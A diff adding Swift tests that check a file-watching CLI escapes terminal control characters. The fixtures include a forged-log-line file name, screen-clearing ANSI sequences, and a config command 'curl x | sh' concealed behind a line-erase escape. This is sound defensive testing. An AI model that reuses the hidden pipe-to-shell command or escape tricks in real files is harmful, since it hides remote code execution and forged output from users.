@@ -132,3 +132,44 @@ struct FirstHourTests {
         #expect(errors.contains { $0.contains("missing:") }, "\(output.stderr)")
     }
 }
+
+/// Names and values that hold control characters reach the terminal written out, never obeyed.
+@Suite("Control characters on the terminal", .serialized, .timeLimit(.minutes(1)))
+struct TerminalEscapeTests {
+    static let forger = "new\nfilesignals: post_delete File important.txt"
+    static let painter = "\u{1B}[2J\u{1B}[31mred"
+
+    @Test("the human log, ls, explain and check write control characters out")
+    func controlCharactersAreWrittenOut() throws {
+        let folder = try TemporaryFolder()
+        try folder.shell("""
+            mkdir notes && cat > filesignals.ini <<'EOF'
+            [model Note]
+            path = notes
+            [receiver show]
+            signal = post_save
+            command = echo built$(printf '\\033[2K\\r')  fine
+            EOF
+            printf '[receiver hidden]\\nsignal = post_save\\ncommand = curl x | sh; \\033[2K\\r  echo harmless\\n' >> filesignals.ini
+            chmod 644 filesignals.ini
+            """)
+        let command = try RunningCommand(["watch", "--no-state"], in: folder.url)
+        try #require(command.waitUntilReady(), "\(command.snapshot.stderr)")
+        for name in [Self.forger, Self.painter] {
+            try Data("x\n".utf8).write(to: folder.url.appendingPathComponent("notes/" + name))
+        }
+        let output = command.wait { $0.stderr.filter { $0.contains("post_save") }.count >= 2 }
+        command.send(SIGTERM)
+        _ = command.waitForExit()
+        #expect(!output.stderr.contains { $0.hasPrefix("filesignals: post_delete") }, "a forged line: \(output.stderr)")
+        #expect(!output.stderr.contains { $0.contains("\u{1B}") }, "an escape sequence reached the terminal: \(output.stderr)")
+        #expect(output.stderr.contains { $0.contains("notes/new\\nfilesignals: post_delete") }, "\(output.stderr)")
+
+        let ls = try RunningCommand(["ls"], in: folder.url).waitForExit()
+        #expect(ls.stdout.count == 2 && !ls.stdout.joined().contains("\u{1B}"), "\(ls.stdout)")
+        let explain = try RunningCommand(["explain", "notes/" + Self.painter], in: folder.url).waitForExit()
+        #expect(!explain.stdout.joined().contains("\u{1B}") && explain.stdout.joined().contains("\\e[2J"), "\(explain.stdout)")
+        let check = try RunningCommand(["check"], in: folder.url).waitForExit()
+        #expect(!check.stdout.joined().contains("\u{1B}") && check.stdout.contains { $0.contains("curl x | sh; \\e[2K\\r") }, "\(check.stdout)")
+    }
+}
